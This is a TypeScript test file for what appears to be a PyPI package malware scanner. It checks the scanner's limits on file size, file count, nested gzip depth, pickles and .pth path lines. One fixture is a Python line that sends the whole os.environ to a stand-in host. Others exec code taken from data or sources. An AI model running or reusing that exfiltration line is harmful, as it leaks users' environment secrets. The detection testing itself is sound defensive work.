import { gzipSync } from 'node:zlib'
import t from 'tap'
import { carriedProgram, isLookedInto } from '../../src/analysis/python/carried/program.ts'
import type { SurfaceEntry } from '../../src/analysis/code.ts'
import { carriers, MAX_CARRIERS } from '../../src/ecosystems/pypi/package/carriers.ts'
import { textCarriers } from '../../src/ecosystems/pypi/package/text-carriers.ts'
import { foldersOnPath } from '../../src/ecosystems/pypi/package/path-lines.ts'
import { siteFiles } from '../../src/ecosystems/pypi/package/layout.ts'
import { inspectFiles } from './archive-of.ts'
import { readingOf } from './python-reading.ts'

const SENDS =
  'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
const TEXT = Buffer.from(SENDS)

/** The program, behind which spaces make it so many bytes. */
const sized = (bytes: number): Buffer => Buffer.concat([TEXT, Buffer.alloc(bytes - TEXT.length, '\n')])

function zipped(depth: number): Buffer {
  let packed: Buffer = TEXT
  for (let at = 0; at < depth; at += 1) packed = gzipSync(packed)
  return packed
}

const RUNS: SurfaceEntry = { path: 'a/__init__.py', moment: 'import', chain: [] }

type Files = Readonly<Record<string, Buffer>>

/** How many files of data are read, how many are left, and whether more were not searched, where something runs what files hold. */
function carried(files: Files): readonly [read: number, left: number, isCut: boolean] {
  const reading = readingOf('wheel', { 'a/__init__.py': 'exec(x)', ...files })
  const loaded = { entries: [RUNS], text: () => 'exec(x)', summary: () => undefined }
  const { entries, rest, unsearched } = carriers(reading, loaded)
  return [entries.length, rest.length, unsearched !== undefined]
}

const files = (count: number, content: (at: number) => Buffer): Files =>
  Object.fromEntries(Array.from({ length: count }, (_, at) => [`a/${String(at).padStart(5, '0')}`, content(at)]))

t.test('files of data that carry code are read up to so many, and the others are said to be left', async (t) => {
  t.same(carried(files(MAX_CARRIERS, () => TEXT)), [MAX_CARRIERS, 0, false])
  t.same(carried(files(MAX_CARRIERS + 1, () => TEXT)), [MAX_CARRIERS, 1, false])
})

/** One file that carries code, and smaller ones. */
const beside = (bytes: number): ReturnType<typeof carried> =>
  carried({ 'a/x': sized(2_900_000), 'a/y': Buffer.alloc(2_600_000), 'a/z': Buffer.alloc(bytes) })

t.test('data is searched for code, the small files first, and the first that is not is told of', async (t) => {
  for (const [count, read] of [
    [3000, 1],
    [3001, 0],
  ] as const)
    t.same(
      carried(files(count, (at) => (at === count - 1 ? TEXT : Buffer.from('data')))),
      [read, 0, read === 0],
      `${count} files`,
    )
  t.same(beside(2_500_000), [1, 0, false], 'so many bytes')
  t.same(beside(2_500_001), [0, 0, true], 'one byte more')
})

/** Pickles of any length that call nothing, with what makes them so long. */
const pickled = (bytes: number): Buffer =>
  Buffer.concat([Buffer.from([0x80, 4]), Buffer.alloc(bytes - 3, 'N'), Buffer.from('.')])

const LIMITS: readonly (readonly [situation: string, limit: number, make: (count: number) => Buffer])[] = [
  ['bytes of a file', 3_000_000, sized],
  ['bytes that it unpacks to', 1_000_000, (bytes) => gzipSync(sized(bytes))],
  ['archives in archives', 3, zipped],
]

t.test('one file is looked into so far, and no further', async (t) => {
  for (const [situation, limit, make] of LIMITS) {
    t.match(carriedProgram(make(limit)), { isCalls: false }, `${situation}: ${limit}`)
    t.equal(isLookedInto(make(limit)), true, `${situation}: to its end`)
    t.equal(carriedProgram(make(limit + 1)), undefined, `${situation}: ${limit + 1}`)
    t.equal(isLookedInto(make(limit + 1)), false, `${situation}: not to its end`)
  }
})

t.test('a pickle is read up to so many bytes', async (t) => {
  t.equal(isLookedInto(pickled(2_000_000)), true)
  t.equal(isLookedInto(pickled(2_000_001)), false)
})

const RUNS_DATA = 'import os, pickle\nx = pickle.load(open(os.path.join(os.path.dirname(__file__), "d"), "rb"))\n'

t.test('where code of a package runs what files hold, a file that was not searched is told of', async (t) => {
  const table: readonly [situation: string, code: string, data: Buffer, isTold: boolean][] = [
    ['as long as is searched', RUNS_DATA, Buffer.alloc(3_000_000), false],
    ['one byte more', RUNS_DATA, Buffer.alloc(3_000_001), true],
    ['one byte more, and nothing runs it', 'x = 1\n', Buffer.alloc(3_000_001), false],
  ]
  for (const [situation, code, data, isTold] of table) {
    const { findings } = await inspectFiles('wheel', { 'a/__init__.py': code, 'a/data.bin': data })
    const told = findings.filter(({ check, message }) => check === 'not-examined' && message.includes('a/data.bin'))
    t.same(
      told.map(({ severity, moment }) => [severity, moment]),
      isTold ? [['low', 'import']] : [],
      situation,
    )
  }
})

t.test('sources are searched for programs in texts, the small ones first', async (t) => {
  const runs = { ...RUNS, path: 'a/runs.py' }
  const left: string[] = []
  const found = (sources: Readonly<Record<string, string>>): number => {
    const entries = [runs, ...Object.keys(sources).map((path): SurfaceEntry => ({ path, moment: 'import', chain: [] }))]
    const text = (path: string): string | undefined =>
      path === runs.path ? 'import inspect\nexec(inspect.getsource(x))\n' : sources[path]
    left.length = 0
    const leave = ({ path }: { readonly path: string }): void => void left.push(path)
    return textCarriers(entries, { text, leave, ofSurface: () => undefined }).length
  }
  const holds = `X = ${JSON.stringify(SENDS)}\n`
  const many = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, at) => [`a/${at}.py`, holds]))
  t.equal(found(many(1)), 1)
  t.equal(found(many(200)), 200, 'so many')
  t.same(left, [], 'so many: all were searched')
  t.equal(found(many(201)), 200, 'one more')
  t.equal(left.length, 1, 'one more: the first that was not searched is told of')
  for (const [units, isTold] of [
    [2_000_000, false],
    [2_000_001, true],
  ] as const) {
    found({ 'a/long.py': holds.padEnd(units) })
    t.same(left, isTold ? ['a/long.py'] : [], `${units} units`)
  }
  const sources = Object.fromEntries(Array.from({ length: 9 }, (_, at) => [`a/${at}.py`, ' '.repeat(1_900_000 + at)]))
  found(sources)
  t.same(left, ['a/8.py'], 'of all sources together, the one that is too much')
})

const lines = (count: number): string => Array.from({ length: count }, (_, at) => `f${at}\n`).join('')

const wheel = (pth: string) => readingOf('wheel', { 'x.pth': pth, 'f2000/deep/m.py': '', 'f2000/x.pth': '' })

t.test('folders that .pth files put on the path are all followed, and what lies in them is a module', async (t) => {
  t.equal(foldersOnPath(wheel(lines(2001))).size, 2001)
  const places = siteFiles(wheel(`${lines(2001)}f2000/deep\n`)).map(({ sitePath }) => sitePath)
  t.same(places, ['x.pth', 'f2000/deep/m.py', 'deep/m.py', 'm.py', 'f2000/x.pth'])
  t.equal(foldersOnPath(readingOf('wheel', { 'x.pth': `f\n${'#'.repeat(1_999_998)}` })).size, 1)
  t.equal(foldersOnPath(readingOf('wheel', { 'x.pth': `f\n${'#'.repeat(1_999_999)}` })).size, 0)
})

const imports = (names: readonly string[]): string => names.map((name) => `import a.${name}\n`).join('')

t.test('modules that were read are not said to be unread, however many an import loads', async (t) => {
  const groups = Array.from({ length: 62 }, (_, group) => Array.from({ length: 50 }, (__, at) => `m${group}_${at}`))
  const { findings } = await inspectFiles('wheel', {
    'a/__init__.py': imports(groups.map((_, group) => `g${group}`)),
    ...Object.fromEntries(groups.map((names, group) => [`a/g${group}.py`, imports(names)])),
    ...Object.fromEntries(groups.flat().map((name) => [`a/${name}.py`, 'x = 1\n'])),
  })
  t.notOk(findings.some(({ check }) => check === 'not-examined'))
})
